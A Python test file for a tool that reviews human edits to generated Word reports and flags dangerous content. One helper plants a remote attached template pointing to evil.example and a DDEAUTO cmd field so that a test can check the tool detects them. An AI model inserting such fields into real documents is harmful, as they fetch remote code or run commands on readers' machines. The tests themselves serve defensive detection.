"""What people changed in an edited document, and what is told of it."""

from itertools import product
from pathlib import Path
from random import Random

import pytest

from generator.files.zip_archive import DOCUMENT, open_archive, package
from generator.manuscript.review.changes.change import Kind
from generator.model.finding import Refusal
from generator.pipeline.as_generated import Basis
from generator.pipeline.make import make
from generator.pipeline.outcome import Status
from generator.pipeline.review import Review, review
from tests.few import few
from tests.libreoffice import needs_libreoffice
from tests.opened import opened
from tests.paths import DOCUMENT as PUBLISHED
from tests.paths import WORKBOOK
from tests.pipeline.office import document_of, replaced, workbook_of
from tests.reviewing import extras
from tests.reviewing.numbering import automatic_number
from tests.reviewing.resaved import resave
from tests.reviewing.reviewer import Kind as Edit
from tests.reviewing.reviewer import Reviewed
from tests.reviewing.reviewer import review as edit

SEEDS = range(6)
OWN_KINDS = {Kind.TABLE, Kind.OTHER}


def generated(office: Path) -> bytes:
    return document_of(office).read_bytes()


def reviewed(office: Path, data: bytes) -> Review:
    document_of(office).write_bytes(data)
    return review(document_of(office))


def leading_outside(data: bytes) -> bytes:
    """Return a document with what a stranger may have put in: a template, a field that fetches."""
    relation = (
        '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>'
    )
    parts = open_archive(data, "", DOCUMENT)
    relations, field = "word/_rels/document.xml.rels", '<w:fldSimple w:instr="DDEAUTO cmd"/>'
    return package(
        {
            **parts,
            relations: parts[relations].replace(b"</Rel", relation.encode() + b"</Rel"),
            DOCUMENT: parts[DOCUMENT].replace(b"<w:body>", f"<w:body><w:p>{field}</w:p>".encode()),
        }
    )


def expected(truth: Reviewed) -> list[str]:
    return [line.strip() for text in truth.lines for line in text.split("\n") if line.strip()]


def said(found: Review, truth: Reviewed) -> list[Kind]:
    """Return the kinds of changes reported, but for what was put in beside the report."""
    return [
        change.kind
        for change in found.comparison.changes
        if change.kind not in OWN_KINDS
        if not (change.kind == Kind.ADDED and change.now in truth.appendix)
    ]


def is_told_as_it_is(found: Review, truth: Reviewed) -> bool:
    """Tell whether a review read what a reviewer wrote, and has one change for each edit."""
    read = [line.text.strip() for line in found.comparison.edited.lines]
    return read == expected(truth) and len(said(found, truth)) == len(truth.edits)


def test_an_untouched_document_has_no_changes(office: Path) -> None:
    found = review(document_of(office))
    assert found.untouched
    assert found.basis == Basis.SNAPSHOT
    assert (found.comparison.changes, found.conflicts, found.leftovers) == ([], [], [])
    assert found.all_in_workbook


@pytest.mark.parametrize(("seed", "tracked"), few(product(SEEDS, (False, True, None)), 5))
def test_every_edit_is_reported_once_and_nothing_else(
    office: Path, seed: int, *, tracked: bool | None
) -> None:
    truth = edit(generated(office), Random(seed), tracked=tracked)
    assert is_told_as_it_is(reviewed(office, truth.data), truth)


@pytest.mark.parametrize(("seed", "tracked"), few(product(SEEDS, (False, True, None)), 1))
def test_nor_in_the_published_report(published: Path, seed: int, *, tracked: bool | None) -> None:
    truth = edit(generated(published), Random(seed), tracked=tracked)
    assert is_told_as_it_is(reviewed(published, truth.data), truth)


@needs_libreoffice
@pytest.mark.parametrize("way", ["docx", "odt", "doc"])
def test_libreoffice_may_save_it_again_whatever_is_in_it(tmp_path: Path, way: str) -> None:
    truths: list[Reviewed] = []
    for seed in range(8):
        rng = Random(2000 + seed)
        truth = edit(PUBLISHED.read_bytes(), rng, tracked=None, nested=False)
        for extra in (extras.add_comment, extras.add_appendix, extras.add_table, extras.late_row):
            truth = extra(truth, rng)
        truths.append(truth)
    paths = [tmp_path / f"{number}.docx" for number in range(len(truths))]
    for path, truth in zip(paths, truths, strict=True):
        path.write_bytes(truth.data)
    again = resave(paths, way, tmp_path / "again", profile=tmp_path / "profile")
    for path, truth in zip(again, truths, strict=True):
        found = review(path, workbook=WORKBOOK)
        assert found.basis == (Basis.WORKBOOK if way == "doc" else found.basis)
        assert is_told_as_it_is(found, truth)
        assert [remark.text for remark in found.comparison.edited.remarks] == [
            comment.text for comment in truth.comments
        ]


def test_automatic_numbers_read_as_they_show(office: Path) -> None:
    truth = automatic_number(edit(generated(office), Random(5)), Random(5))
    assert is_told_as_it_is(reviewed(office, truth.data), truth)


def test_who_and_when_are_told_where_tracked_changes_tell(office: Path) -> None:
    kinds = [Edit.CHANGE_FIGURE]
    truth = edit(generated(office), Random(3), kinds=kinds, count=1, tracked=True, nested=False)
    (change,) = reviewed(office, truth.data).comparison.changes
    assert change.kind == Kind.FIGURE
    assert [who for who, _ in change.by] == [truth.edits[0].author]


def test_what_was_changed_without_tracking_is_told_apart(office: Path) -> None:
    data = replaced(generated(office), "均予以公开", "全部予以公开")
    plain = reviewed(office, data)
    assert (len(plain.comparison.changes), plain.untracked) == (1, [])
    truth = edit(data, Random(6), kinds=[Edit.CHANGE_FIGURE], count=1, tracked=True)
    found = reviewed(office, truth.data)
    assert len(found.comparison.changes) == 2
    assert [change.kind for change in found.untracked] == [Kind.REWORDED]


def test_a_draft_of_a_workbook_without_a_table_can_be_reviewed(office: Path) -> None:
    book = opened(workbook_of(office).read_bytes())
    del book["一、案件"]
    book.save(workbook_of(office))
    make(workbook_of(office), output=document_of(office), draft=True, force=True)
    found = review(document_of(office))
    assert (found.comparison.changes, found.cells) == ([], 0)


def test_what_must_not_be_published_with_a_document_is_told(office: Path) -> None:
    assert review(document_of(office)).foreign == []
    assert set(reviewed(office, leading_outside(generated(office))).foreign) == {
        "域“DDEAUTO cmd”（内部文件 word/document.xml）",
        "附加的模板（指向 http://evil.example/t.dotm）（内部文件 word/_rels/document.xml.rels）",
    }


@pytest.mark.parametrize("xml", ["<w:altChunk/>", "<w:p><w:subDoc/></w:p>"])
def test_content_that_cannot_be_read_is_told_and_keeps_the_document(office: Path, xml: str) -> None:
    changed = replaced(generated(office), "<w:sectPr", f"{xml}<w:sectPr")
    document_of(office).write_bytes(changed)
    made = make(workbook_of(office))
    assert made.status == Status.EDITED
    assert document_of(office).read_bytes() == changed
    assert made.review is not None
    assert [change.kind for change in made.review.comparison.changes] == [Kind.OTHER]
    assert "程序读不到" in made.review.leftovers[0].what
    assert not made.review.all_in_workbook


def test_without_a_base_and_a_workbook_nothing_can_be_told(office: Path) -> None:
    truth = edit(generated(office), Random(9), kinds=[Edit.REWORD], count=1)
    workbook_of(office).unlink()
    with pytest.raises(Refusal, match="--workbook"):
        reviewed(office, extras.strip_provenance(truth, Random(9)).data)


def test_a_document_that_would_exhaust_the_machine_is_refused(office: Path) -> None:
    with pytest.raises(Refusal, match=r"多得不正常.*只保留文本"):
        reviewed(office, replaced(generated(office), "<w:sectPr", "<w:p/>" * 60_000 + "<w:sectPr"))
